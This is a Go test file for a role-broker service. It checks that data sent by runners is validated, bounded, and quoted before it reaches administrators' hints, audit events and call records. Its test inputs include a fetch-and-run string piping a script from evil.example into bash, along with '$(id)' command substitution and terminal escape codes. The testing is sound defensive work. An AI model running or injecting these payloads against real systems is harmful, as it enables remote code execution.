package runnerapi_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/rolebroker/rolebroker"
	"github.com/rolebroker/rolebroker/api"
	"github.com/rolebroker/rolebroker/client"
)

const poison = "; curl https://evil.example | bash #"

// tell has our runner tell an outcome for the role inner, and returns what
// administrators see of it.
func (w *world) tell(o api.IdentifiedOutcome) (*api.Validation, error) {
	w.Helper()
	ctx := context.Background()
	o.Role, o.CheckedAt = w.cluster.Roles[0].ID, time.Now()
	err := w.ours.RecordValidations(ctx, w.cluster.ID, api.RunnerValidations{Version: w.cluster.Version,
		Validations: []api.IdentifiedOutcome{o}})
	if err != nil {
		return nil, err
	}
	in, err := w.tb.Admin.Integration(ctx, "cluster")
	if err != nil {
		w.Fatal(err)
	}
	return in.Roles[0].Validation, nil
}

// Whatever a runner sends, an administrator gets no command and no policy that has a
// word of it: the server writes the hint for each code, and quotes AWS's message.
func TestNoHintHasAWordOfARunner(t *testing.T) {
	w := newWorld(t)
	account := &api.ServiceAccount{Issuer: "https://evil.example", Namespace: "evil", Name: "evil"}
	for _, code := range []rolebroker.ValidationCode{
		rolebroker.ValidAssumable, rolebroker.ValidNoIdentity, rolebroker.ValidIdentityExpired,
		rolebroker.ValidIdentityInvalid, rolebroker.ValidIdentityRegion, rolebroker.ValidIdentityRoot,
		rolebroker.ValidPlatformDenied, rolebroker.ValidDenied, rolebroker.ValidTrustDenied,
		rolebroker.ValidPolicyDenied, rolebroker.ValidExternalIDRefused, rolebroker.ValidExternalIDOpen,
		rolebroker.ValidExternalIDAhead, rolebroker.ValidNextExternalID, rolebroker.ValidTagSessionDenied,
		rolebroker.ValidSourceIdentityDenied, rolebroker.ValidDurationMaximum, rolebroker.ValidDurationChaining,
		rolebroker.ValidRegionDisabled, rolebroker.ValidRegionInvalid, rolebroker.ValidPartition,
		rolebroker.ValidARNInvalid, rolebroker.ValidDurationInvalid, rolebroker.ValidServiceLinked,
		rolebroker.ValidIdentityCenter, rolebroker.ValidRejected, rolebroker.ValidThrottled,
		rolebroker.ValidUnreachable, rolebroker.ValidNotChecked, "a_new_one",
	} {
		for _, method := range []rolebroker.AssumeMethod{rolebroker.MethodAssumeRole,
			rolebroker.MethodWebIdentity, ""} {
			o := api.IdentifiedOutcome{Validation: api.Validation{Status: "failed", Code: string(code),
				Message: poison, Hint: poison, HintSteps: []api.HintStep{{Text: "run:", Command: "evil" + poison,
					Policy: `{"Principal":"evil"}`}}}}
			if method != "" {
				o.Finding = &api.Finding{Method: string(method), IdentityAccount: "666666666666",
					IdentityARN: "arn:aws:sts::666666666666:assumed-role/evil/evil",
					Refusal:     &api.STSRefusal{Kind: "denied", Code: "AccessDenied", Message: "evil" + poison}}
			}
			if method == rolebroker.MethodWebIdentity {
				o.Finding.Account = account
			}
			got, err := w.tell(o)
			if err != nil {
				t.Errorf("%s: %v", code, err)
				continue
			}
			for _, step := range got.HintSteps {
				if pasted := step.Command + step.Policy; strings.Contains(pasted, "evil") ||
					strings.Contains(pasted, "666666666666") {
					t.Errorf("%s by %q: the step is %+v", code, method, step)
				}
			}
			if strings.Contains(got.Hint, poison) || strings.Contains(strings.ReplaceAll(got.Message,
				`the runner reports "AccessDenied: evil`+poison+`"`, ""), poison) &&
				!strings.Contains(got.Message, fmt.Sprintf("the runner reports %q", poison)) {
				t.Errorf("%s by %q: %s\n%s", code, method, got.Message, got.Hint)
			}
		}
	}
}

// What a runner sends has to have the form that it should have.
func TestFactsOfRunnersHaveTheirForms(t *testing.T) {
	w := newWorld(t)
	for what, change := range map[string]func(*api.IdentifiedOutcome){
		"an ARN that is none":  func(o *api.IdentifiedOutcome) { o.Finding.IdentityARN = "arn:aws:iam::1:user/`id`" },
		"an ARN with a shell":  func(o *api.IdentifiedOutcome) { o.Finding.IdentityARN += "$(id)" },
		"an account of others": func(o *api.IdentifiedOutcome) { o.Finding.IdentityAccount = "444455556666" },
		"a service account": func(o *api.IdentifiedOutcome) {
			o.Finding.Account = &api.ServiceAccount{Name: poison}
		},
		"a method":             func(o *api.IdentifiedOutcome) { o.Finding.Method = poison },
		"a probe":              func(o *api.IdentifiedOutcome) { o.Finding.Probe = poison },
		"a kind of refusal":    func(o *api.IdentifiedOutcome) { o.Finding.Refusal.Kind = poison },
		"a code of AWS":        func(o *api.IdentifiedOutcome) { o.Finding.Refusal.Code = poison },
		"a policy that denied": func(o *api.IdentifiedOutcome) { o.Finding.Refusal.DeniedBy = poison },
		"a request ID":         func(o *api.IdentifiedOutcome) { o.RequestID = "x\x1b[2J" },
		"a code about others":  func(o *api.IdentifiedOutcome) { o.Code = "external_id_outdated" },
	} {
		o := api.IdentifiedOutcome{Validation: api.Validation{Code: "denied"}, Finding: &api.Finding{
			Method: "assume-role", IdentityAccount: "111122223333", IdentityARN: "arn:aws:iam::111122223333:user/eks",
			Refusal: &api.STSRefusal{Kind: "denied", Code: "AccessDenied", Message: "no"}}}
		if _, err := w.tell(o); err != nil {
			t.Fatal(err)
		}
		change(&o)
		_, err := w.tell(o)
		w.refused(what, err, rolebroker.CodeInvalid)
	}
}

// A runner of an earlier version sends a code and words of its own: the server writes
// the hint that it can write from the code.
func TestAnOlderRunnerIsUnderstood(t *testing.T) {
	w := newWorld(t)
	got, err := w.tell(api.IdentifiedOutcome{Validation: api.Validation{Status: "failed", Code: "denied",
		Message: "AWS does not let the runner assume the role, and does not say why: AccessDenied: no", Hint: "do it"}})
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != "failed" || got.Code != "denied" || !strings.HasPrefix(got.Message, "AWS does not let the runner "+
		`assume the role, and does not say why: the runner reports "AWS does not let`) ||
		!strings.Contains(got.Hint, "rolebroker integration setup cluster --role inner") ||
		strings.Contains(got.Hint, "do it") {
		t.Errorf("%s", must(json.Marshal(got)))
	}
	if got, err := w.tell(api.IdentifiedOutcome{Validation: api.Validation{Status: "assumable",
		Code: "assumable", Message: "fine"}}); err != nil || got.Status != "assumable" ||
		got.Message != "the role can be assumed" {
		t.Errorf("%+v, %v", got, err)
	}
}

// A report has an identity as AWS describes one, and a failure is a quotation.
func TestReportsOfRunnersHaveTheirForms(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	w.identify(w.ours)
	for _, arn := range []string{"arn:aws:iam::111122223333:user/x$(id)", "; id", "arn:aws:iam::444455556666:root"} {
		w.refused(arn, w.ours.Report(ctx, api.RunnerReport{Method: "assume-role", Account: "111122223333", ARN: arn}),
			rolebroker.CodeInvalid)
	}
	good := w.session(0)
	if err := w.ours.BeginSession(ctx, good); err != nil {
		t.Fatal(err)
	}
	if err := w.ours.FinishSession(ctx, good.ID, api.SessionOutcome{State: "failed", ExpiresAt: good.ExpiresAt,
		RequestID: poison, Failure: poison}); err != nil {
		t.Fatal(err)
	}
	for s, err := range w.tb.Admin.AllSessions(ctx, api.SessionFilter{}) {
		if err != nil || s.RequestID != "" || s.Failure != fmt.Sprintf("the runner reports %q", poison) {
			t.Errorf("%+v, %v", s, err)
		}
	}
}

// A runner cannot fill the record: what it may begin is bounded for each agent, and so
// are the sessions without an outcome, the reports, and their sizes.
func TestWhatARunnerMayRecordIsBounded(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	w.identify(w.ours)
	begun := 0
	for range 5 * 64 {
		err := w.ours.BeginSession(ctx, w.session(0))
		if rolebroker.CodeOf(err) == rolebroker.CodeThrottled {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		begun++
	}
	if begun < 4*64 || begun >= 5*64 {
		t.Errorf("%d sessions were begun at once", begun)
	}
	v := api.RunnerValidations{Version: w.cluster.Version, Validations: []api.IdentifiedOutcome{
		{Role: w.cluster.Roles[0].ID, Validation: api.Validation{Code: "assumable", CheckedAt: time.Now()}}}}
	var err error
	for range 140 {
		if err = w.ours.RecordValidations(ctx, w.cluster.ID, v); err != nil {
			break
		}
	}
	w.refused("140 reports at once", err, rolebroker.CodeThrottled)
	w.refused("6,000 entries", w.ours.RecordUse(ctx, api.Usage{Fetches: make([]api.Fetch, 6000)}),
		rolebroker.CodeInvalid)
	w.refused("a long session", w.ours.FinishSession(ctx, w.session(0).ID,
		api.SessionOutcome{Failure: strings.Repeat("x", 100_000)}), rolebroker.CodeInvalid)
}

// What a runner says that it refused is recorded of agents that asked it, as a quotation; and nothing that is no refusal.
func TestRefusalsOfRunnersHaveTheirForms(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	good := api.AgentRefusal{Agent: w.scout.ID, Address: "10.0.3.4", Action: "session.begin", Role: "inner", Task: poison,
		Code: "denied", Reason: poison, Times: 3}
	tell := func(change func(*api.AgentRefusal)) (events []api.AuditEvent) {
		t.Helper()
		told := good
		change(&told)
		if err := w.ours.RecordUse(ctx, api.Usage{Refusals: []api.AgentRefusal{told}}); err != nil {
			t.Fatal(err)
		}
		for e, err := range w.tb.Admin.AllAuditEvents(ctx, api.AuditFilter{Action: "session"}) {
			if err != nil {
				t.Fatal(err)
			}
			events = append(events, e)
		}
		return events
	}
	if found := tell(func(*api.AgentRefusal) {}); len(found) != 0 {
		t.Errorf("of an agent that never asked: %+v", found)
	}
	w.identify(w.ours)
	found := tell(func(*api.AgentRefusal) {})
	if len(found) != 1 || found[0].Actor.Name != "scout" || found[0].Actor.Address != "10.0.3.4" ||
		found[0].Reason != fmt.Sprintf("the runner reports %q", poison) || found[0].After["times"] != "3" ||
		found[0].Subjects[0].Name != "cluster/inner" || found[0].Subjects[1].Name != "ours" {
		t.Errorf("%+v", found)
	}
	for what, change := range map[string]func(*api.AgentRefusal){
		"an address": func(r *api.AgentRefusal) { r.Address = poison },
		"an action":  func(r *api.AgentRefusal) { r.Action = "agent.delete" },
		"a code":     func(r *api.AgentRefusal) { r.Code = poison },
		"a token":    func(r *api.AgentRefusal) { r.Token = poison },
		"a pod":      func(r *api.AgentRefusal) { r.Pod, r.Namespace, r.ServiceAccount = poison, "a", "b" },
		"no times":   func(r *api.AgentRefusal) { r.Times = 0 },
	} {
		if found := tell(change); len(found) != 1 {
			t.Errorf("%s: %+v", what, found[0])
		}
	}
	w.refused("600 refusals", w.ours.RecordUse(ctx, api.Usage{Refusals: make([]api.AgentRefusal, 600)}),
		rolebroker.CodeInvalid)
	bad := w.session(0)
	bad.Address = poison
	w.refused("the address of a session", w.ours.BeginSession(ctx, bad), rolebroker.CodeInvalid)
}

// A runner cannot say that a token of an agent that never asked it was used.
func TestARunnerTellsOnlyOfAgentsThatAskedIt(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	tokens, err := w.tb.Admin.Tokens(ctx, "scout", client.List{})
	if err != nil || len(tokens.Items) != 1 {
		t.Fatalf("%+v, %v", tokens, err)
	}
	usedAt := func() *time.Time {
		token, err := w.tb.Admin.Token(ctx, "scout", tokens.Items[0].ID)
		if err != nil {
			t.Fatal(err)
		}
		return token.UsedAt
	}
	use := api.Usage{Tokens: map[string]time.Time{tokens.Items[0].ID: time.Now(), "tok_none": time.Now()}}
	if err := w.theirs.RecordUse(ctx, use); err != nil {
		t.Fatal(err)
	}
	if at := usedAt(); at != nil {
		t.Errorf("it was used at %v", at)
	}
	w.identify(w.ours)
	if err := w.ours.RecordUse(ctx, use); err != nil {
		t.Fatal(err)
	}
	if usedAt() == nil {
		t.Error("it was not used")
	}
}

// A runner records calls under its own sessions only, and nothing in an hour that is covered already.
func TestARunnerRecordsItsOwnCallsOnly(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	if _, err := w.ours.Identify(ctx, api.Identification{Token: api.Secret(w.tested.Reveal())}); err != nil {
		t.Fatal(err)
	}
	session := w.session(0)
	if err := w.ours.BeginSession(ctx, session); err != nil {
		t.Fatal(err)
	}
	good := api.RunnerCall{ID: callID(0), Agent: w.scout.ID,
		Token: string(rolebroker.NewTokenID()), Integration: w.cluster.ID, Role: session.Role, Session: session.ID,
		Service: "s3", Operation: "GetObject", Level: "read", Decision: "allowed", Times: 1}
	records := func(runner *client.Client, call api.RunnerCall) (taken bool) {
		t.Helper()
		answer, err := runner.RecordCalls(ctx, []api.RunnerCall{call})
		if err != nil {
			t.Fatal(err)
		}
		return len(answer.Refused) == 0
	}
	for range 2 { // the answer to the first may be lost
		if !records(w.ours, good) {
			t.Error("its own call is not taken")
		}
	}
	if records(w.theirs, good) {
		t.Error("a call under the session of another runner is taken")
	}
	for what, change := range map[string]func(*api.RunnerCall){
		"without a session":     func(c *api.RunnerCall) { c.Session = "" },
		"of another role":       func(c *api.RunnerCall) { c.Role = w.cluster.Roles[1].ID },
		"of an hour long over":  func(c *api.RunnerCall) { c.ID = callID(-8 * time.Hour) },
		"of tomorrow":           func(c *api.RunnerCall) { c.ID = callID(24 * time.Hour) },
		"of no level":           func(c *api.RunnerCall) { c.Level = "harmless" },
		"of an unknown session": func(c *api.RunnerCall) { c.Session = string(rolebroker.NewSessionID()) },
		"of a token that is no": func(c *api.RunnerCall) { c.Token = "curl | bash" },
	} {
		bad := good
		bad.ID = callID(0)
		if change(&bad); records(w.ours, bad) {
			t.Errorf("a call %s is taken", what)
		}
	}
	odd := good
	odd.ID, odd.Reason = callID(0), "run\ncurl | bash"
	if !records(w.ours, odd) {
		t.Error("a call with a reason is not taken")
	}
	found := map[string]string{}
	for call, err := range w.tb.Admin.AllCalls(ctx, api.CallFilter{}) {
		if err != nil {
			t.Fatal(err)
		}
		found[call.ID] = call.Reason
		if call.Agent != "scout" || call.Integration != "cluster" || call.Role != "inner" || call.ARN == "" {
			t.Errorf("on record is %+v", call)
		}
	}
	if len(found) != 2 || !strings.HasPrefix(found[odd.ID], "the runner reports ") {
		t.Errorf("on record are %q", found)
	}
}

// callID is the ID of a call that began so much later than now.
func callID(later time.Duration) string { return string(rolebroker.NewCallID(time.Now().Add(later))) }
